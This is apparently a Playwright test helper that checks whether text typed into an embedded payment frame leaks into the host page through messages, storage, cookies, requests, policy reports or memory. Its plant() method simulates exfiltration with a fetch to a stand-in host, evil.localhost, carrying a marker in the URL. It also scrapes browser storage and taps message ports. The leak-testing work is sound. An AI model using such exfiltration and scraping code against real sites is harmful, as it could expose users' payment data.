import type { BrowserContext, CDPSession, Frame, Page, Request } from "@playwright/test";
import { origins } from "./origins.ts";

/** What a page's script can call while it is watched. */
interface Taps {
  heard(message: string): void;
  told(event: string): void;
}

/**
 * Everywhere that something typed could turn up on a host's page, each by its name and with all that is in it as one
 * text. To be made before the first page.
 */
export class Sinks {
  readonly #context: BrowserContext;
  readonly #messages: string[] = [];
  readonly #events: string[] = [];
  readonly #console: string[] = [];
  readonly #requests: Request[] = [];

  private constructor(context: BrowserContext) {
    this.#context = context;
    context.on("console", (message) => this.#console.push(message.text()));
    context.on("request", (request) => this.#requests.push(request));
  }

  static async watch(context: BrowserContext): Promise<Sinks> {
    const sinks = new Sinks(context);
    await context.exposeBinding("heard", (_, message: string) => sinks.#messages.push(message));
    await context.exposeBinding("told", (_, event: string) => sinks.#events.push(event));
    await context.addInitScript(listenIn, origins.pay);
    // The banner's page has no analytics of its own; one more line in its config gives it some.
    await context.route("**/banner/host.js", async (route) => {
      const response = await route.fetch();
      const script = await response.text();
      const [before = "", after = ""] = script.split("  authConfig: {");
      const line = "  analyticsConfig: { onEvent: (event) => told(JSON.stringify(event)) },\n";
      await route.fulfill({ response, body: `${before}${line}  authConfig: {${after}` });
    });
    return sinks;
  }

  /** All that can be read without stopping the page. */
  async read(page: Page): Promise<Map<string, string>> {
    const reports = this.#requests.filter((request) => request.url().endsWith("/csp-reports"));
    const texts = new Map([
      ["messages", this.#messages.join("\n")],
      ["analytics", this.#events.join("\n")],
      ["console", this.#console.join("\n")],
      ["addresses", this.#requests.map((request) => request.url()).join("\n")],
      ["headers", JSON.stringify(await Promise.all(this.#requests.map((request) => request.allHeaders())))],
      ["bodies", this.#requests.map((request) => request.postData() ?? "").join("\n")],
      ["policy reports", reports.map((request) => request.postData() ?? "").join("\n")],
      ["cookies", JSON.stringify(await this.#context.cookies())],
      ["document", await page.evaluate(readDocument)],
      ["events", (await page.locator("#events").allTextContents()).join("\n")],
    ]);
    for (const frame of page.frames()) {
      const owner = frame.url().startsWith(origins.pay) ? "frame" : "page";
      for (const [name, text] of Object.entries(await frame.evaluate(readStorage))) {
        const key = `${name} of a ${owner}`;
        texts.set(key, `${texts.get(key) ?? ""}\n${text}`);
      }
    }
    return texts;
  }

  /** Puts a text everywhere, as whoever wanted to lead it out of a frame would. */
  async plant(page: Page, text: string): Promise<void> {
    for (const frame of page.frames()) await frame.evaluate(fillStorage, text);
    await page.evaluate(plantInPage, text);
    const [frame] = page.frames().filter((each) => each.url().startsWith(origins.pay));
    if (!frame) throw new Error("there is no frame");
    await frame.evaluate(plantFromFrame, text);
    await frame.evaluate(async (marker) => {
      // One that goes out, and one that the policy reports.
      await fetch(`/pci-forms/keys?${marker}`, {
        method: "POST",
        headers: { "x-correlation-id": marker },
        body: marker,
      });
      await fetch(`http://evil.localhost/${marker}`).catch(() => undefined);
    }, text);
  }
}

/** Names of the sinks that hold a text of this form. */
export function holding(texts: ReadonlyMap<string, string>, form: RegExp): string[] {
  return [...texts].filter(([, text]) => form.test(text)).map(([name]) => name);
}

/** A page's or a frame's memory, as the debugger writes it down. */
export async function heapOf(context: BrowserContext, target: Page | Frame): Promise<string> {
  const session: CDPSession = await context.newCDPSession(target);
  const chunks: string[] = [];
  session.on("HeapProfiler.addHeapSnapshotChunk", ({ chunk }) => chunks.push(chunk));
  await session.send("HeapProfiler.takeHeapSnapshot", {});
  await session.detach();
  return chunks.join("");
}

/** Runs in every document before its own scripts; a frame of the payment host is left as it is. */
function listenIn(pay: string): void {
  if (location.origin === pay) return;
  const { heard } = globalThis as unknown as Taps;
  const hear = ({ data }: MessageEvent<unknown>) => heard(String(data));
  addEventListener("message", hear);
  const { prototype } = MessagePort;
  const usual = Object.getOwnPropertyDescriptor(prototype, "onmessage");
  Object.defineProperty(prototype, "onmessage", {
    ...usual,
    set(this: MessagePort, listener: unknown) {
      this.addEventListener("message", hear);
      usual?.set?.call(this, listener);
    },
  });
}

function readDocument(): string {
  const roots: ShadowRoot[] = [];
  const values: string[] = [];
  const visit = (root: ParentNode) => {
    for (const element of root.querySelectorAll("*")) {
      if (element instanceof HTMLInputElement) values.push(element.value);
      if (!element.shadowRoot) continue;
      roots.push(element.shadowRoot);
      visit(element.shadowRoot);
    }
  };
  visit(document);
  return [document.documentElement.getHTML({ shadowRoots: roots }), ...values].join("\n");
}

async function readStorage() {
  const promised = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(new Error(request.error?.message));
    });
  const databases: unknown[] = [];
  for (const { name = "" } of await indexedDB.databases()) {
    const database = await promised(indexedDB.open(name));
    for (const store of database.objectStoreNames)
      databases.push(await promised(database.transaction(store).objectStore(store).getAll()));
    database.close();
  }
  const cached: string[] = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys())
      cached.push(request.url, (await (await cache.match(request))?.text()) ?? "");
  }
  return {
    localStorage: JSON.stringify({ ...localStorage }),
    sessionStorage: JSON.stringify({ ...sessionStorage }),
    IndexedDB: JSON.stringify(databases),
    Cache: cached.join("\n"),
    name: window.name,
    history: JSON.stringify(history.state),
  };
}

async function fillStorage(text: string): Promise<void> {
  localStorage.setItem("planted", text);
  sessionStorage.setItem("planted", text);
  window.name = text;
  history.replaceState({ planted: text }, "");
  await (await caches.open("planted")).put("/planted", new Response(text));
  await new Promise<void>((resolve) => {
    const opening = indexedDB.open("planted");
    opening.onupgradeneeded = () => opening.result.createObjectStore("planted");
    opening.onsuccess = () => {
      const writing = opening.result.transaction("planted", "readwrite");
      writing.objectStore("planted").put(text, "planted");
      writing.oncomplete = () => {
        opening.result.close();
        resolve();
      };
    };
  });
}

function plantInPage(text: string): void {
  Object.assign(globalThis, { planted: text });
  console.warn(text);
  document.cookie = `planted=${text}`;
  const box = document.querySelector("aisle-card-box");
  box?.dispatchEvent(new CustomEvent("aisle-card-add", { detail: text }));
  const place = document.createElement("input");
  place.value = text;
  box?.shadowRoot?.append(place);
  (globalThis as unknown as Taps).told(text);
}

/** Posts to every window that a frame can reach. */
function plantFromFrame(text: string): void {
  const { parent } = window;
  const reachable = [parent, parent.opener as Window | null, parent.frames[0]];
  reachable.forEach((each, index) => each?.postMessage(`${text}-${index}`, "*"));
}
